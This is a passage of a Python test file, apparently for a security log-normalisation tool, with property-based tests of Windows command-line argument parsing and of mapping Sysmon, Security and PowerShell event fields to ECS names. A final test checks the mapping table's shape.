            c = cmd[0]
            if c in " \t":
                if not inquote:
                    rest = cmd[1:]
                    break
            elif c == '"':
                b += "\\" * (nslash // 2)
                if nslash % 2 == 0:
                    if inquote and len(cmd) > 1 and cmd[1] == '"':
                        b += c
                        cmd = cmd[1:]
                    inquote = not inquote
                else:
                    b += c
                nslash = 0
                cmd = cmd[1:]
                continue
            elif c == "\\":
                nslash += 1
                cmd = cmd[1:]
                continue
            b += "\\" * nslash
            nslash = 0
            b += c
            cmd = cmd[1:]
        else:
            rest = ""
        out.append(b + "\\" * nslash)
        cmd = rest
    return out


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from(list('ab \t"\\\n')), max_size=40))
def test_argv_matches_the_pipeline_port(cmd: str) -> None:
    assert command_line_to_argv(cmd) == reference_argv(cmd)


SIMPLE_ARG = st.text(alphabet=st.sampled_from(list("abcXYZ09-/:.=_\\")), min_size=1,
                     max_size=12).filter(lambda a: not a.endswith("\\"))


@settings(max_examples=200, deadline=None)
@given(st.lists(SIMPLE_ARG, max_size=8))
def test_joined_simple_args_round_trip(args: list[str]) -> None:
    assert command_line_to_argv(" ".join(args)) == args
    quoted = " ".join(f'"{a} x"' for a in args)
    assert command_line_to_argv(quoted) == [f"{a} x" for a in args]


def test_security_args() -> None:
    assert security_args("a  b") == ["a", "", "b"]
    assert security_args("a ") == ["a", ""]
    assert security_args('"C:\\a b.exe" x') == ['"C:\\a b.exe"', "x"]
    assert security_args("") == []


# --------------------------------------------------------------------------------------------
# Odd input, table shape
# --------------------------------------------------------------------------------------------


def test_odd_input_never_raises() -> None:
    assert ecs_view(None) == {}  # type: ignore[arg-type]
    assert ecs_view({})["host.os.type"] == "windows"
    cloudtrail = {"eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
                  "awsRegion": "us-east-1"}
    assert ecs_view(cloudtrail) == {}  # not a Windows event
    odd = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": "1", "Image": 5,
           "CommandLine": ["x"], "User": {"a": 1}, "Hashes": 7, "TargetObject": None,
           "Details": 3.5, "ProcessId": "abc", "ParentCommandLine": True}
    null_guid = ecs_view({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 22,
                          "ProcessGuid": "00000000-0000-0000-0000-000000000000"})
    assert "process.entity_id" not in null_guid  # the EVTX reader's spelling of the null GUID
    odd_keys: dict[Any, Any] = {1: "x", None: 2, "Channel": "Security"}
    assert ecs_view(odd_keys)["winlog.channel"] == "Security"
    v = ecs_view(odd)
    check(v, {"process.pid": ABSENT, "process.name": ABSENT, "process.args": ABSENT,
              "user.name": ABSENT, "process.hash.md5": ABSENT, "process.executable": 5})


RAW_NAMES = ["Image", "CommandLine", "ParentCommandLine", "User", "Hashes", "TargetObject",
             "Details", "ProcessId", "QueryResults", "TargetFilename", "ImageLoaded",
             "LogonType", "IpPort", "NewProcessId", "TargetUserName", "MemberName",
             "ContextInfo", "Data_2", "Data_3", "RelativeTargetName", "Keywords", "Task",
             "Signed", "SignatureStatus", "Initiated", "EventType", "ConnectedUser"]
ODD_VALUE = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True),
                      st.text(max_size=30), st.lists(st.text(max_size=5), max_size=3),
                      st.dictionaries(st.text(max_size=3), st.integers(), max_size=2))
KINDS = [("Microsoft-Windows-Sysmon/Operational", e) for e in (1, 3, 7, 12, 13, 22, 255)] + [
    ("Security", e) for e in (4624, 4648, 4688, 4728, 5145, 5136)] + [
    ("Microsoft-Windows-PowerShell/Operational", 4103), ("Windows PowerShell", 800),
    ("Windows PowerShell", 400), ("System", 7045), (None, None)]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(KINDS), st.dictionaries(st.sampled_from(RAW_NAMES), ODD_VALUE))
def test_any_values_never_raise(kind: tuple[Any, Any], raw: dict[str, Any]) -> None:
    fields = dict(raw)
    if kind[0] is not None:
        fields["Channel"], fields["EventID"] = kind
    view = ecs_view(fields)
    assert all(isinstance(k, str) for k in view)


def test_table_shape() -> None:
    class NoDup(yaml.SafeLoader):
        pass

    def mapping(loader: yaml.SafeLoader, node: yaml.MappingNode) -> dict[Any, Any]:
        keys = [loader.construct_object(k, deep=True) for k, _ in node.value]
        assert len(keys) == len(set(keys)), f"duplicate keys at line {node.start_mark.line}"
        return loader.construct_mapping(node, deep=True)

    NoDup.add_constructor(yaml.resolver.BaseResolver.DEFAULT_MAPPING_TAG, mapping)
    text = (ROOT / "src/ruleatlas/engine/ecs.yaml").read_text()
    table = yaml.load(text, NoDup)
    sysmon = table["channels"]["Sysmon"]["events"]
    assert {str(i) for i in range(1, 30)} <= set(sysmon)
    security = table["channels"]["Security"]["events"]
    for code in (4624, 4625, 4634, 4648, 4672, 4688, 4697, 4698, 4699, 4702, 4720, 4728,
                 4732, 4738, 4768, 4769, 4776, 5140, 5145):
        assert str(code) in security
    for ch in table["channels"].values():
        for name, spec in (ch.get("fields") or {}).items():
            assert isinstance(spec, list) or any(k in spec for k in FN_KEYS), name
    assert kind_table(("Sysmon", "1")).rows  # compiles
